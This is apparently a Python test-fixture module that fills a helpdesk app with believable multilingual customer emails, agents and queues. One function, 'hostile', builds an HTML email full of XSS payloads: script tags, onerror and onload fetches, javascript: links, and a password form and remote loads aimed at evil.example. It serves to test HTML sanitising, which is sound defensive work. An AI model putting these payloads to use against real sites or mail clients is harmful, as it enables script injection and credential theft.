"""A desk with believable work on it: for the tests in a browser, and to look at.

manage.py shell -c "from tests.desk.world import fill; fill()"
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from itertools import count, cycle
from typing import Any
from unicodedata import normalize
from zlib import compress, crc32

from django.utils import timezone

from agents.models import Agent
from crm.models import Organisation
from mailsenders.models import OutgoingMail
from queues import actions
from queues.letters import Reply
from queues.models import Conversation, EmailQueue, Message
from tests.make import make_agent, make_queue, make_sender, make_supervisor, receive

SIGNATURE = "Kind regards\nExample Outfitters, customer care\n+44 20 7946 0018"
_numbers = count(1)


@dataclass(frozen=True)
class Topic:
    """What people write about, in their language."""

    queue: str
    language: str
    subject: str
    text: str


TOPICS = [
    Topic("Orders", "en", "Where is my parcel 2026-11834?", "Hello,\n\nmy order 2026-11834 should have been here on Monday. The tracking page has said “handed over to the carrier” for four days now.\n\nCould you find out where it is? I need it before the weekend.\n\nThank you"),
    Topic("Billing", "de", "Rechnung doppelt abgebucht", "Guten Tag,\n\nam 3. März wurde der Betrag von 84,90 € zweimal von meinem Konto abgebucht. Bitte erstatten Sie mir die zweite Zahlung.\n\nDie Kundennummer ist 40 771 203.\n\nMit freundlichen Grüßen"),
    Topic("Returns", "cs", "Reklamace bot – odlepená podrážka", "Dobrý den,\n\nu bot, které jsem koupila v lednu, se odlepila podrážka. Nosila jsem je asi dva měsíce, jen do města. Přikládám fotografii.\n\nJak mám při reklamaci postupovat?\n\nDěkuji a hezký den"),
    Topic("Orders", "es", "Cambio de dirección de entrega", "Buenos días:\n\nhe hecho el pedido 2026-11902 y me he equivocado de dirección. ¿Pueden enviarlo a la calle Mayor 14, 3.º B, 28013 Madrid?\n\nMuchas gracias de antemano."),
    Topic("Returns", "en", "Wrong size sent, need an exchange", "Hi there,\n\nI ordered the rain jacket in M and got an XL. The colour is right. Can I swap it without paying for the postage twice?\n\nThe return label in the box says “XL” as well, so something went wrong when it was packed."),
    Topic("Billing", "en", "VAT number missing on invoice INV-20771", "Dear accounts team,\n\nour bookkeeping refuses invoice INV-20771 because our VAT number (GB 123 4567 89) is not on it. Please issue a corrected one; the amount stays the same.\n\nBest wishes"),
    Topic("Orders", "de", "Lieferung ohne Zelt-Heringe", "Hallo,\n\ndas Zelt ist heute gekommen, aber der Beutel mit den Heringen fehlt. Am Freitag fahren wir los – können Sie sie bis dahin nachschicken?\n\nViele Grüße"),
    Topic("Orders", "cs", "Změna objednávky 2026-11950", "Dobrý den, prosím o přidání ještě jednoho páru ponožek (velikost 39–42) k objednávce 2026-11950, pokud ještě neodešla. Děkuji."),
    Topic("Billing", "es", "Factura a nombre de empresa", "Hola:\n\nnecesito la factura del pedido 2026-11777 a nombre de Ferretería Soler, S. L., con el CIF B12345678. ¿Es posible todavía?\n\nUn saludo"),
    Topic("Returns", "de", "Rücksendung – wann kommt das Geld?", "Guten Tag,\n\nlaut Sendungsverfolgung liegt mein Paket seit dem 24. Februar bei Ihnen. Auf dem Konto ist noch nichts zu sehen. Bis wann darf ich damit rechnen?"),
    Topic("Orders", "en", "Can I collect in the shop instead?", "Morning! Would it be possible to collect order 2026-12001 in the Bristol shop instead of having it sent? I’m in town on Thursday anyway."),
    Topic("Returns", "cs", "Vrácení zboží do 14 dnů", "Dobrý den,\n\nráda bych vrátila nepoužitý batoh z objednávky 2026-11640. Na jakou adresu ho mám poslat a kdy přijdou peníze zpět?"),
]  # fmt: skip

PEOPLE = {
    "en": [
        "Margaret Doyle",
        "Samuel Okafor",
        "Priya Raman",
        "Tom Whitfield",
        "Hannah Lindqvist",
        "Owen Price",
    ],
    "de": ["Jürgen Weiß", "Katharina Vogel", "Mehmet Yıldız", "Sabine Groß", "Lukas Brandt", "Dörte Möller"],
    "cs": ["Jana Dvořáková", "Tomáš Říha", "Lenka Čermáková", "Petr Šťastný", "Eva Horáková", "Ondřej Žák"],
    "es": ["Lucía Fernández", "Álvaro Núñez", "Carmen Ibáñez", "Iñigo Soler", "Marta Gil", "Javier Peña"],
}
THANKS = {
    "en": "That was quick, thank you. One more thing: can you confirm the new date in writing?",
    "de": "Vielen Dank für die schnelle Antwort! Eine Frage noch: Brauche ich den Originalkarton?",
    "cs": "Děkuji za rychlou odpověď. Ještě prosím: stačí účtenka v e-mailu?",
    "es": "Muchas gracias por la rapidez. ¿Me pueden confirmar la fecha por escrito?",
}
ANSWERS = {
    "en": "Thank you for writing. I have looked into it and will have it settled today; you will hear from me by five o’clock.",
    "de": "vielen Dank für Ihre Nachricht. Ich habe es geprüft und kümmere mich heute noch darum.",
    "cs": "děkujeme za zprávu. Věc jsem ověřila a ještě dnes ji vyřídím.",
    "es": "gracias por escribirnos. Lo he comprobado y lo resolveré hoy mismo.",
}


def address(name: str) -> str:
    """An address made of a name."""
    plain = "".join(each for each in normalize("NFKD", name.lower()).replace(" ", ".") if each.isascii())
    return f"{plain}@customer.example"


def letter(name: str, subject: str, text: str, at: datetime, answers: Message | None = None) -> EmailMessage:
    """A mail as a person sends it."""
    mail = EmailMessage()
    mail["From"] = f'"{name}" <{address(name)}>'
    mail["To"] = "support@example.com"
    mail["Subject"] = subject
    mail["Date"] = format_datetime(at)
    mail["Message-ID"] = f"<desk-{next(_numbers)}-{crc32(text.encode())}@customer.example>"
    quoted = ""
    if answers:
        mail["In-Reply-To"] = f"<{answers.message_id}>"
        mail["References"] = " ".join(f"<{each}>" for each in [*answers.references, answers.message_id])
        quoted = "\n".join(f"> {line}" for line in answers.text[:400].splitlines())
        quoted = f"\n\nOn {at:%d %b %Y}, Support <support@example.com> wrote:\n{quoted}"
    mail.set_content(f"{text}\n\n{name}\n{quoted}")
    return mail


def picture() -> bytes:
    """A small PNG with a gradient."""
    width, height = 96, 64
    rows = b"".join(
        b"\0" + bytes(value for x in range(width) for value in (90 + x, 120 + y, 170 - x // 2))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + crc32(kind + data).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", compress(rows)) + chunk(b"IEND", b"")


def rich(name: str, subject: str, at: datetime) -> EmailMessage:
    """An HTML mail with a table, an inline picture, a tracking image and two files."""
    mail = letter(name, subject, "Please see the order below.", at)
    mail.add_alternative(
        '<html><body style="font-family:Arial"><p>Hello,</p><p>this is the order that arrived <b>incomplete</b>:</p>'
        '<table border="1" cellpadding="6" cellspacing="0" style="border-collapse:collapse">'
        '<tr bgcolor="#eef2f7"><th align="left">Article</th><th>Pieces</th><th>Price</th></tr>'
        "<tr><td>Rain jacket, blue</td><td>1</td><td>84.90</td></tr>"
        "<tr><td>Walking socks</td><td>3</td><td>29.70</td></tr></table>"
        '<p>The seam looks like this:</p><p><img src="cid:seam@customer.example" width="192" alt="the seam"></p>'
        '<p><img src="https://tracker.example/open.gif" width="1" height="1">Thanks!</p>'
        '<p style="color:#777">Sent from my tablet</p></body></html>',
        subtype="html",
    )
    html = mail.get_payload()[1]  # type: ignore[index]
    html.add_related(picture(), "image", "png", cid="<seam@customer.example>")  # type: ignore[union-attr]
    mail.add_attachment(picture(), maintype="image", subtype="png", filename="label.png")
    mail.add_attachment(
        b"%PDF-1.4 nothing in it\n", maintype="application", subtype="pdf", filename="Receipt März 2026.pdf"
    )
    return mail


def hostile(name: str, subject: str, at: datetime) -> EmailMessage:
    """An HTML mail that tries to run scripts and to load things."""
    mail = letter(name, subject, "A mail that means no good.", at)
    mail.add_alternative(
        "<p>harmless words</p><script>document.title='run'; fetch('/stolen-by-script')</script>"
        "<img src=x onerror=\"fetch('/stolen-by-onerror')\"><svg onload=\"fetch('/stolen-by-svg')\"></svg>"
        "<iframe src=\"javascript:fetch('/stolen-by-frame')\"></iframe><style>@import 'https://evil.example/a.css';</style>"
        '<link rel="stylesheet" href="https://evil.example/b.css"><div style="background:url(https://evil.example/c.png)">b</div>'
        '<form action="https://evil.example/"><input name="password"><button>go</button></form>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
        '<a href="javascript:alert(1)">click</a><img src="https://evil.example/pixel.gif">'
        '<object data="https://evil.example/o"></object><video src="https://evil.example/v.mp4" autoplay></video>',
        subtype="html",
    )
    return mail


def take_in(queue: EmailQueue, mail: EmailMessage, at: datetime) -> Message:
    """Let it come into the queue at that time."""
    return receive(queue, mail.as_bytes(), at)


def answer(agent: Agent, conversation: Conversation, text: str, at: datetime, state: str = "sent") -> Message:
    """An agent's answer of some time ago, and what became of it."""
    message = actions.reply(
        agent.user, conversation, Reply(text=text, undo_seconds=0, token=f"world-{next(_numbers)}")
    )
    Message.objects.filter(pk=message.pk).update(created_at=at, sent_at=at)
    conversation.events.filter(at__gt=at).update(at=at)
    Conversation.objects.filter(pk=conversation.pk).update(last_message_at=at)
    words = {
        "failed": "550 5.1.1 The mailbox does not exist.",
        "uncertain": "The connection broke after the text was sent.",
    }
    OutgoingMail.objects.filter(pk=message.outgoing_id).update(
        state=state, sent_at=at if state == "sent" else None, last_error=words.get(state, ""), created_at=at
    )
    message.refresh_from_db()
    return message


def staff() -> dict[str, Agent]:
    """Alice the agent, Bob the supervisor, and a colleague."""
    levels = {"en": 5, "de": 4, "cs": 4, "es": 3}
    return {
        "alice": make_agent("alice", languages=levels, skills={"billing": 4}, capacity=9),
        "bob": make_supervisor("bob", languages=levels, skills={"billing": 5}, capacity=9),
        "dora": make_agent(
            "dora", languages={"de": 5, "cs": 5}, skills={"billing": 2}, presence="away", capacity=9
        ),
    }


def queues(people: dict[str, Agent]) -> dict[str, EmailQueue]:
    """Three queues that answer from one address."""
    sender = make_sender(name="support-out", display_name="Example Outfitters")
    extra: dict[str, Any] = {"sender": sender, "signature": SIGNATURE}
    return {
        "Orders": make_queue(people.values(), name="Orders", **extra),
        "Billing": make_queue(people.values(), name="Billing", skills={"billing": 2}, **extra),
        "Returns": make_queue(people.values(), name="Returns", **extra),
    }


def fill(size: int = 64) -> None:
    """Everything that a busy morning brings."""
    now = timezone.now()
    people = staff()
    places = queues(people)
    names = {language: cycle(each) for language, each in PEOPLE.items()}
    made = list(_conversations(size, now, places, names))
    _work(made, people, now)
    _special(places, people, now)
    contact = made[0].contact
    contact.organisation = Organisation.objects.create(name="Doyle & Sons Ltd")
    contact.save(update_fields=["organisation"])


def _conversations(
    size: int, now: datetime, places: dict[str, EmailQueue], names: Mapping[str, Iterator[str]]
) -> Iterator[Conversation]:
    for number, topic in zip(range(size), cycle(TOPICS), strict=False):
        at = now - timedelta(minutes=9 + 23 * number)
        mail = letter(next(names[topic.language]), topic.subject, topic.text, at)
        if number % 9 == 2:
            mail.add_attachment(picture(), maintype="image", subtype="png", filename="photo.png")
        yield take_in(places[topic.queue], mail, at).conversation


def _work(made: list[Conversation], people: dict[str, Agent], now: datetime) -> None:
    alice, bob, dora = people["alice"], people["bob"], people["dora"]
    for row in made[3:9]:
        actions.take(alice.user, row)
    for row in made[9:15]:
        actions.take(bob.user, row)
    for row in made[30:42]:
        answer(bob, row, ANSWERS[row.language or "en"], row.created_at + timedelta(minutes=50))
    for row in made[42:54]:
        answer(alice, row, ANSWERS[row.language or "en"], row.created_at + timedelta(minutes=30))
        actions.close(alice.user, row)
    for row in made[54:57]:
        actions.snooze(bob.user, row, now + timedelta(days=1))
    actions.note(
        bob.user,
        made[5],
        "The carrier has a strike in the north until Thursday: promise nothing before Friday.",
    )
    actions.note(dora.user, made[0], "She called as well; I told her that we are looking for it.")


def _special(places: dict[str, EmailQueue], people: dict[str, Agent], now: datetime) -> None:
    alice, bob = people["alice"], people["bob"]
    orders = places["Orders"]
    first = take_in(
        orders,
        rich("Margaret Doyle", "Order 2026-11834 arrived incomplete", now - timedelta(hours=5)),
        now - timedelta(hours=5),
    )
    actions.take(alice.user, first.conversation)
    ours = answer(alice, first.conversation, ANSWERS["en"], now - timedelta(hours=4))
    actions.note(
        bob.user, first.conversation, "Give her the express delivery for free, she is an old customer."
    )
    again = letter(
        "Margaret Doyle", "Re: Order 2026-11834 arrived incomplete", THANKS["en"], now, answers=ours
    )
    take_in(orders, again, now - timedelta(minutes=3))
    for name, state in (("Samuel Okafor", "failed"), ("Priya Raman", "uncertain")):
        at = now - timedelta(hours=7)
        mail = take_in(
            orders,
            letter(name, f"Gift card does not work ({state})", "The code on my gift card is refused.", at),
            at,
        )
        answer(alice, mail.conversation, ANSWERS["en"], at + timedelta(minutes=20), state)
    take_in(orders, hostile("Nobody Good", "You have won", now), now - timedelta(minutes=1))
